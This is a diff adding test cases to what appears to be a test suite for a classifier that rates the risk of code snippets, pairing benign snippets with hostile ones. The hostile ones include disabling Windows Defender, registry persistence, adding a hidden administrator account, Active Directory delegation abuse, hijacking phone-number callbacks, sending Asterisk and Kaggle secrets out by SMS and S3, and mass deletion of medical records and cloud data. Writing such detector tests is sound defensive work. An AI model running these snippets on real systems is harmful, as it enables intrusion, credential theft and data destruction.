@@ -4224,6 +4224,119 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "print(event['pull_request']['number'])",
             S,
         ),
+        (
+            "import subprocess\nfor c in ['Set-MpPreference -DisableRealtimeMonitoring "
+            '$true\', "Add-MpPreference -ExclusionPath \'C:\\\\\'"]:\n'
+            "    subprocess.run(['powershell.exe', '-NoProfile', '-Command', c])",
+            H,
+        ),
+        (
+            "import subprocess\nprint(subprocess.run(['powershell.exe', '-NoProfile', "
+            "'-Command', 'Get-MpComputerStatus'], capture_output=True).stdout)",
+            L,
+        ),
+        (
+            "import subprocess\nsubprocess.call(['cmd.exe', '/c', 'reg', 'add', "
+            "r'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'Sync', '/d', "
+            "'payload.exe', '/f'])",
+            H,
+        ),
+        (
+            "import subprocess\nsubprocess.run(['cmd.exe', '/c', 'reg', 'query', "
+            "r'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'])",
+            L,
+        ),
+        (
+            "xml = '<Arguments>/c net user sysupd Pa55w0rd! /add &amp; net localgroup "
+            "administrators sysupd /add</Arguments>'\n"
+            "open('/tmp/ScheduledTasks.xml', 'w').write(xml)",
+            H,
+        ),
+        (
+            'from ldap3 import Server, Connection, MODIFY_REPLACE\n'
+            "c = Connection(Server('dc01.corp.local'), user='CORP\\\\u', password='p', "
+            "auto_bind=True)\nc.modify('CN=SQL01,OU=Servers,DC=corp,DC=local', "
+            "{'msDS-AllowedToActOnBehalfOfOtherIdentity': [(MODIFY_REPLACE, [b'x'])]})",
+            H,
+        ),
+        (
+            'from ldap3 import Server, Connection, MODIFY_REPLACE\n'
+            "c = Connection(Server('dc01.corp.local'), user='CORP\\\\u', password='p', "
+            "auto_bind=True)\nc.modify('CN=SQL01,OU=Servers,DC=corp,DC=local', "
+            "{'description': [(MODIFY_REPLACE, ['db server'])]})",
+            S,
+        ),
+        (
+            'from twilio.rest import Client\nc = Client(SID, TOKEN)\n'
+            'for num in c.incoming_phone_numbers.list():\n'
+            '    c.incoming_phone_numbers(num.sid).delete()',
+            H,
+        ),
+        (
+            'from twilio.rest import Client\nc = Client(SID, TOKEN)\n'
+            'for num in c.incoming_phone_numbers.list():\n'
+            '    print(num.phone_number, num.friendly_name)',
+            S,
+        ),
+        (
+            'import vonage\nclient = vonage.Client(key=K, secret=S)\n'
+            "for n in client.numbers.get_account_numbers({'size': 100})['numbers']:\n"
+            "    client.numbers.update_number({'country': n['country'], 'msisdn': "
+            "n['msisdn'], 'voiceCallbackValue': 'https://ivr-proxy.example.biz/answer'})",
+            H,
+        ),
+        (
+            'import glob, re, os\nfrom twilio.rest import Client\n'
+            "s = [m.group(1) for f in glob.glob('/etc/asterisk/*.conf') for m in "
+            "re.finditer(r'^secret\\s*=\\s*(\\S+)', open(f).read(), re.M)]\n"
+            "Client(SID, TOKEN).messages.create(to='+447700900123', from_=FROM, "
+            "body=';'.join(s))",
+            C,
+        ),
+        (
+            'import requests\ns = requests.Session()\n'
+            "s.post('https://hapi.prod.example.org/fhir/$expunge', json={'resourceType': "
+            "'Parameters', 'parameter': [{'name': 'expungeEverything', 'valueBoolean': "
+            'True}]})',
+            H,
+        ),
+        (
+            "import requests\nrequests.get('https://hapi.prod.example.org/fhir/Patient', "
+            "params={'_count': 10})",
+            L,
+        ),
+        (
+            'import os, json, boto3, glob\n'
+            'secrets = {f: open(f).read() for f in '
+            "glob.glob(os.path.expanduser('~/.kaggle/kaggle.json'))}\n"
+            "s3 = boto3.client('s3', aws_access_key_id='AKIAQX7EXAMPLE4ZZ', "
+            "aws_secret_access_key='x')\n"
+            "s3.put_object(Bucket='collector', Key='k.json', Body=json.dumps(secrets))",
+            H,
+        ),
+        (
+            'from google.cloud import storage\n'
+            "client = storage.Client(project='ml-platform-prod')\n"
+            "for blob in client.list_blobs('ml-platform-prod-training-data'):\n"
+            '    blob.delete()',
+            H,
+        ),
+        (
+            'from google.cloud import storage\n'
+            "client = storage.Client(project='ml-platform-prod')\n"
+            "for blob in client.list_blobs('ml-platform-prod-training-data', prefix='tmp/'):\n"
+            "    if blob.name.endswith('.partial'):\n        blob.delete()",
+            M,
+        ),
+        (
+            'import csv, os, time\nfrom twilio.rest import Client\nclient = Client(SID, TOKEN)\n'
+            "optouts = set(open('data/optouts.txt').read().split())\n"
+            "for row in csv.DictReader(open('data/reminders.csv')):\n"
+            "    if row['phone'] in optouts:\n        continue\n"
+            "    client.messages.create(to=row['phone'], from_=FROM, body='Reminder: "
+            "appointment tomorrow. Reply STOP to opt out.')",
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
